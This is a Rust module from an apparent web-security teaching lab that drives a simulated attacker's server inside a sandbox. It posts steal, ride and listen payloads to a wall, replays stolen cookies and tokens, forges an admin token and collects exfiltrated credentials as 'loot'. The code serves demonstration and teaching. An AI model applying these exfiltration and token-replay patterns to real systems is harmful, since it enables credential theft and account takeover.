//! The attacker's site, as a play reaches it: by HTTP, like everybody.

use std::time::Duration;

use domain::{Loot, Replay, SandboxId};
use serde::Deserialize;
use serde_json::{Value, json};
use tokio::time::{Instant, sleep};

use super::super::Void;
use super::reader::Reader;
use super::{Neighbourhood, sentence};
use crate::Origin;

/// How long the attacker waits for loot, after the victim's page has loaded.
const PATIENCE: Duration = Duration::from_millis(1_500);
/// How often the inbox is looked into meanwhile.
const LOOK_EVERY: Duration = Duration::from_millis(40);

/// What a post on the wall does in its reader's page.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Payload {
    /// Sends home whatever a script can read.
    Steal,
    /// Acts as whoever reads it.
    Ride,
    /// Listens to its reader's keys.
    Listen,
}

/// A campaign at the attacker's site.
pub(crate) struct AttackersSite {
    client: reqwest::Client,
    origin: Origin,
    campaign: String,
    sandbox: SandboxId,
    seen: usize,
    reader: Reader,
}

#[derive(Deserialize)]
struct Inbox {
    loot: Vec<Loot>,
    replays: Vec<Replay>,
}

impl AttackersSite {
    /// Begins a campaign against a sandbox.
    pub(crate) async fn begin(
        client: reqwest::Client,
        origin: &Origin,
        sandbox: &SandboxId,
        reader: Reader,
    ) -> Result<Self, Void> {
        let begun = client.post(format!("{origin}/campaigns")).send().await.map_err(silent)?;
        let campaign =
            begun.headers().get("location").and_then(|location| location.to_str().ok()?.rsplit('/').next());
        let campaign =
            campaign.ok_or_else(|| Void("The attacker’s site began no campaign.".to_owned()))?.to_owned();
        Ok(Self { client, origin: origin.clone(), campaign, sandbox: sandbox.clone(), seen: 0, reader })
    }

    /// The campaign's address, and below it what it offers.
    pub(crate) fn address(&self, path: &str) -> String {
        self.address_at(&self.origin, path)
    }

    /// Where the attacker's site is.
    pub(crate) fn origin(&self) -> &Origin {
        &self.origin
    }

    /// The same, by the name under which the attacker is in that neighbourhood.
    pub(crate) fn address_in(&self, from: Neighbourhood, path: &str) -> String {
        match from {
            Neighbourhood::CrossSite => self.address(path),
            Neighbourhood::SameSite => self.address_at(&self.origin.called("localhost"), path),
        }
    }

    fn address_at(&self, origin: &Origin, path: &str) -> String {
        format!("{origin}/campaigns/{}{path}", self.campaign)
    }

    /// Has a payload posted on the wall, from the attacker's server.
    pub(crate) async fn post_on_wall(&self, payload: Payload) -> Result<(), Void> {
        let (payload, does) = match payload {
            Payload::Steal => ("steal", "sends home whatever a script can read"),
            Payload::Ride => ("ride", "acts as whoever reads it"),
            Payload::Listen => ("listen", "listens to the keys of whoever reads it"),
        };
        let posting = || format!("the attacker posts a text on the wall. A script in it {does}.");
        self.reader.before(posting).await?;
        let posted = self.post("/posts", &json!({ "payload": payload, "sandbox": self.sandbox })).await?;
        match posted["status"].as_u64() {
            Some(200..400) => Ok(()),
            _ => Err(Void(format!("The wall did not take the attacker’s post: {posted}."))),
        }
    }

    /// Tries something out from the attacker's server.
    pub(crate) async fn replay(
        &self,
        path: &str,
        authorization: Option<&str>,
        cookie: &str,
    ) -> Result<Replay, Void> {
        let brings = match (authorization, cookie) {
            (Some(_), _) => "a token",
            (None, "") => "nothing: nothing was found",
            (None, _) => "a cookie",
        };
        self.reader.before(|| sentence::of_try(path, brings)).await?;
        let lab = format!("{}={}", app::lab::LAB_COOKIE, self.sandbox);
        let cookie = if cookie.is_empty() { lab } else { format!("{lab}; {cookie}") };
        let form =
            json!({ "path": path, "authorization": authorization.unwrap_or_default(), "cookie": cookie });
        self.post("/replays", &form).await?;
        let replays = self.inbox().await?.replays;
        replays.into_iter().next_back().ok_or_else(|| Void("The attacker’s site tried nothing.".to_owned()))
    }

    /// Has the attacker read, with his own password and from his own server, what his account in the room of forged
    /// sign-ins holds.
    pub(crate) async fn read_notes(&self) -> Result<Replay, Void> {
        let reading =
            || "the attacker signs in with his own password, and reads what his account holds.".to_owned();
        self.reader.before(reading).await?;
        let body = format!("sandbox={}", self.sandbox);
        let request = self.client.post(self.address("/notes"));
        let request = request.header("content-type", "application/x-www-form-urlencoded").body(body);
        request.send().await.map_err(silent)?;
        let replays = self.inbox().await?.replays;
        replays.into_iter().next_back().ok_or_else(|| Void("The attacker read nothing.".to_owned()))
    }

    /// Makes a token out of another and tries it out, as ordered.
    pub(crate) async fn forge(&self, order: &Value) -> Result<Value, Void> {
        let attack = order["attack"].as_str().unwrap_or_default();
        let forging = || {
            format!("the attacker’s server makes an admin’s token out of Alice’s ({attack}), and sends it.")
        };
        self.reader.before(forging).await?;
        self.post("/forgeries", order).await
    }

    /// Everything that pages sent home so far.
    pub(crate) async fn loot_so_far(&self) -> Result<Vec<Loot>, Void> {
        Ok(self.inbox().await?.loot)
    }

    /// Sends something to where payloads send what they found. Returns the status of the answer.
    pub(super) async fn collect(&self, found: &Value) -> Result<u16, Void> {
        let copying =
            || "malware on the device copies the credential, and sends it to the attacker.".to_owned();
        self.reader.before(copying).await?;
        let address = format!("{}/collect/{}", self.origin, self.campaign);
        let request = self.client.post(address).header("content-type", "application/json");
        Ok(request.body(found.to_string()).send().await.map_err(silent)?.status().as_u16())
    }

    /// Ends the campaign: what was stolen is kept no longer than it takes to show that it was.
    pub(crate) async fn end(self) {
        // An attacker who has gone away has forgotten it as well.
        let _ = self.client.post(self.address("/end")).send().await;
    }

    /// Sends JSON to an address of the campaign, and reads JSON.
    pub(crate) async fn post(&self, path: &str, body: &Value) -> Result<Value, Void> {
        let request = self.client.post(self.address(path)).header("content-type", "application/json");
        let answer = request.body(body.to_string()).send().await.map_err(silent)?;
        let text = answer.text().await.map_err(silent)?;
        Ok(serde_json::from_str(&text).unwrap_or_default())
    }

    /// Reads JSON at an address of the campaign.
    pub(crate) async fn get(&self, path: &str) -> Result<Value, Void> {
        let request = self.client.get(self.address(path)).header("accept", "application/json");
        let text = request.send().await.map_err(silent)?.text().await.map_err(silent)?;
        serde_json::from_str(&text).map_err(|_| Void("The attacker’s campaign is gone.".to_owned()))
    }

    /// The next piece of loot, if it comes in time.
    pub(super) async fn next_loot(&mut self) -> Result<Option<Loot>, Void> {
        let until = Instant::now() + PATIENCE;
        loop {
            if let Some(loot) = self.inbox().await?.loot.into_iter().nth(self.seen) {
                self.seen += 1;
                return Ok(Some(loot));
            }
            if Instant::now() >= until {
                return Ok(None);
            }
            sleep(LOOK_EVERY).await;
        }
    }

    async fn inbox(&self) -> Result<Inbox, Void> {
        let inbox = self.get("").await?;
        serde_json::from_value(inbox).map_err(|_| Void("The attacker’s inbox is gone.".to_owned()))
    }
}

fn silent(error: reqwest::Error) -> Void {
    tracing::warn!(%error, "the attacker's site");
    Void("The attacker’s site does not answer.".to_owned())
}
